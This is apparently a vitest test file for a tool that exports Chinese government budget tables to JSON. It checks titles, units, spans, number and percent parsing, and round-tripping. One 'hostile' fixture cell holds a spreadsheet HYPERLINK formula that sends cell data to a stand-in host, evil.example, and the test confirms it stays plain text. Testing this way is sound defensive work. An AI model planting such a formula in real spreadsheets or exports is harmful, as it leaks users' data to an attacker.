import Decimal from 'decimal.js';
import { describe, expect, it } from 'vitest';
import { fixtureGrids, hostileTable, incomeTable, performanceTable } from '../../test/export/fixtures.ts';
import { type TableJson, tableJsonText } from './json.ts';

const read = (text: string): TableJson => JSON.parse(text);

describe('tableJson', () => {
  it('carries title, 表N, unit, meta, header paths, spans, pieces and the source', () => {
    const url = 'https://www.xjkz.gov.cn/page.html';
    const json = read(tableJsonText(incomeTable(), { url, pageTitle: '克州外事办2023年单位预算公开' }));
    expect(json).toMatchObject({
      format: 'budget-check/table',
      version: 1,
      source: { url, pageTitle: '克州外事办2023年单位预算公开' },
      id: 't1',
      number: '2',
      title: '单位收入总体情况表',
      unit: { name: '万元', scale: 10000 },
      headRows: 2,
      width: 8,
      pieces: 2,
      pieceStarts: [7],
    });
    expect(json.meta).toEqual(['编制单位：克孜勒苏柯尔克孜自治州人民政府外事办公室', '单位：万元']);
    expect(json.colPaths[1]).toEqual(['功能分类科目编码', '款']);
    expect(json.spans).toContainEqual({ row: 0, col: 5, rowSpan: 1, colSpan: 2 });
  });

  it('gives amounts as exact strings with their decimals and as numbers; codes as their own kind', () => {
    const json = read(tableJsonText(incomeTable()));
    expect(json.rows[6][4]).toEqual({ text: '65.10', kind: 'number', value: '65.10', number: 65.1, decimals: 2 });
    expect(json.rows[4][1]).toEqual({ text: '03', kind: 'code' });
    expect(json.rows[6][7]).toEqual({ text: '-', kind: 'blank' });
    expect(json.rows[0][6]).toEqual({ text: '财 政 拨 款 ( 补 助 )', kind: 'text', origin: [0, 5] });
  });

  it('reads negatives, percents, separators and unreadable numbers', () => {
    const rows = read(tableJsonText(hostileTable())).rows;
    expect(rows[1][2]).toMatchObject({ text: '1,566.00', value: '1566.00', number: 1566 });
    expect(rows[3][2]).toMatchObject({ text: '（12.50）', value: '-12.50', number: -12.5, decimals: 2 });
    expect(rows[4][2]).toMatchObject({ text: '12.5%', value: '12.5', percent: true });
    expect(rows[7][2]).toMatchObject({ text: '12.3.4', kind: 'invalid' });
    expect(rows[7][2].reason).toMatch(/unreadable/);
    expect(rows[1][1]).toEqual({ text: '=HYPERLINK("http://evil.example/?leak="&A1,"点我")', kind: 'text' });
  });

  it('marks covered amounts with their origin so that nobody adds them twice', () => {
    const rows = read(tableJsonText(performanceTable())).rows;
    expect(rows[2][3]).toEqual({ text: '90', kind: 'number', value: '90', number: 90, decimals: 0, origin: [2, 2] });
    expect(rows[2][2].origin).toBeUndefined();
  });

  it('round-trips every fixture table: texts and exact values', () => {
    for (const page of fixtureGrids()) {
      for (const grid of page.tables) {
        const json = read(tableJsonText(grid));
        expect(json.rows).toHaveLength(grid.rows.length);
        grid.rows.forEach((row, r) => {
          row.forEach((cell, c) => {
            const out = json.rows[r][c];
            const origin = grid.rows[cell.originRow][cell.originCol];
            expect(out.text).toBe(origin.text.trim());
            if (out.kind === 'number' && origin.value.kind === 'number') {
              expect(new Decimal(out.value!).eq(origin.value.amount.value)).toBe(true);
              expect(out.decimals).toBe(origin.value.amount.decimals);
            } else {
              expect(out.kind === 'code' ? 'number' : out.kind).toBe(origin.value.kind);
            }
          });
        });
      }
    }
  });
});
